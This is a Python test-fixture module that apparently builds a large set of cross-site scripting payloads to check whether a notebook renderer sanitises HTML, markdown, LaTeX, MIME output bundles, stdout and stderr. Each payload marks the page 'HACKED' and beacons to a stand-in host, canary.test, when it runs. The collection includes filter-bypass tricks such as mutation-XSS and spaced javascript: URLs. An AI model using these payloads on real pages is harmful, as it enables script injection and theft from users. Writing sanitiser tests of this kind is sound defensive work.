"""Markup that wants to run: each piece reports its name to `CANARY` if it does."""

from __future__ import annotations

import base64
import json

CANARY = "http://canary.test"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def script(name: str) -> str:
    """JavaScript without a double quote that says that ``name`` has run."""
    return f"top.document.title='HACKED';(top.hacked=top.hacked||[]).push('{name}');new Image().src='{CANARY}/{name}'"


def markup(place: str) -> dict[str, str]:
    """HTML by name; ``place`` tells where it stood."""

    def js(name: str) -> str:
        return script(f"{place}:{name}")

    def there(name: str) -> str:
        return f"{CANARY}/{place}:{name}"

    return {
        "script": f"<script>{js('script')}</script>",
        "broken-script": f"<scr<script>ipt>{js('broken-script')}</scr</script>ipt>",
        "closing": f"</div></pre></div></body><script>{js('closing')}</script>",
        "onerror": f'<img src="nowhere.png" onerror="{js("onerror")}">',
        "onerror-open": f'<img src=nowhere.png onerror="{js("onerror-open")}"',
        "slashes": f'<img/src="nowhere.png"/onerror="{js("slashes")}">',
        "svg": f'<svg onload="{js("svg")}"><script>{js("svg")}</script></svg>',
        "details": f'<details open ontoggle="{js("details")}"><summary>x</summary></details>',
        "video": f'<video><source onerror="{js("video")}"></video>',
        "focus": f'<form action="{there("focus")}"><input autofocus onfocus="{js("focus")}"></form>',
        "frame": f'<iframe srcdoc="<script>{js("frame")}</script>"></iframe>',
        "frame-link": f'<iframe src="javascript:{js("frame-link")}"></iframe>',
        "object": f'<object data="{there("object")}"></object><embed src="{there("embed")}">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={there("refresh")}">',
        "stylesheet": f'<link rel="stylesheet" href="{there("stylesheet")}">',
        "style": f"<style>body {{ background: url({there('style')}) }}</style>",
        "inline-style": f'<p style="background: url({there("inline-style")})">x</p>',
        "link": f'<a href="javascript:{js("link")}">x</a>',
        "link-spaced": f'<a href=" jav&#x09;ascript:{js("link-spaced")}">x</a>',
        "link-data": f'<a href="data:text/html,<script>{js("link-data")}</script>">x</a>',
        "mutated": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={js("mutated")}&gt;">',
        "noscript": f'<noscript><p title="</noscript><img src=1 onerror={js("noscript")}>"></noscript>',
        "comment": f"<!--><script>{js('comment')}</script>-->",
        "template": f"<template><script>{js('template')}</script></template>",
    }


def markdown(place: str) -> dict[str, str]:
    """The same in text cells, and what only markdown can do."""

    def js(name: str) -> str:
        return script(f"{place}:{name}").replace("'", "%27")

    return markup(place) | {
        "md-link": f"[x](javascript:{js('md-link')})",
        "md-link-data": "[x](data:text/html;base64," + base64.b64encode(b"<script>1</script>").decode() + ")",
        "md-image": f"![x](javascript:{js('md-image')})",
        "md-reference": f"[x][y]\n\n[y]: javascript:{js('md-reference')}",
        "md-auto": f"<javascript:{js('md-auto')}>",
        "md-title": f'![x](nowhere.png "\\" onerror=\\"{script(place + ":md-title")}")',
        "md-math": f'$x<img src=1 onerror="{script(place + ":md-math")}">$',
        "md-tex": rf"$\href{{javascript:{js('md-tex')}}}{{x}}$",
        "md-code": f"```html\n</code></pre><script>{script(place + ':md-code')}</script>\n```",
        "md-attachment": "![x](attachment:a.svg)",
    }


def outputs() -> list[tuple[str, dict]]:
    """Bundles of output data, each with its metadata under ``metadata``."""
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svg:onload")}"><script>{script("svg:script")}</script></svg>'
    broken = f'x" onerror="{script("png:data")}'
    found: list[tuple[str, dict]] = [
        ("svg", {"image/svg+xml": drawing}),
        ("javascript", {"application/javascript": script("javascript")}),
        ("javascript", {"text/javascript": script("javascript")}),
        (
            "widget",
            {
                "application/vnd.jupyter.widget-view+json": '{"model_id": "</script><script>'
                + script("widget")
                + '</script>"}'
            },
        ),
        ("png", {"image/png": broken}),
        ("plain", {"text/plain": f"<script>{script('plain')}</script>"}),
        ("mime", {f"text/<script>{script('mime')}</script>": "x"}),
    ]
    found += [("text/html", {"text/html": text}) for text in markup("html").values()]
    found += [("text/markdown", {"text/markdown": text}) for text in markdown("markdown-output").values()]
    found += [("text/latex", {"text/latex": f"$x$ {text}"}) for text in markup("latex").values()]
    return found


def display_cells() -> list[str]:
    """Code cells that show all of it."""
    bundles = [bundle for _, bundle in outputs()]
    size = 10
    cells = [
        "from IPython.display import display\nimport json\n"
        f"for bundle in json.loads({json.dumps(bundles[start : start + size])!r}): display(bundle, raw=True)"
        for start in range(0, len(bundles), size)
    ]
    width = f'1" onerror="{script("png:width")}'
    cells.append(f"display({{'image/png': {PNG!r}}}, metadata={{'image/png': {{'width': {width!r}}}}}, raw=True)")
    cells.append("\n".join(f"print({text!r})" for text in markup("stdout").values()))
    coloured = [f'\x1b[31m{text}\x1b[0m\x1b[31;"{text}m' for text in markup("stderr").values()]
    cells.append("import sys\n" + "\n".join(f"print({text!r}, file=sys.stderr)" for text in coloured))
    for name, text in list(markup("error").items())[:4]:
        cells.append(f"raise type({text!r}, (Exception,), {{}})({name!r} + {text!r})")
    cells.append(f"# </code></pre><script>{script('source')}</script>\nNone")
    return cells
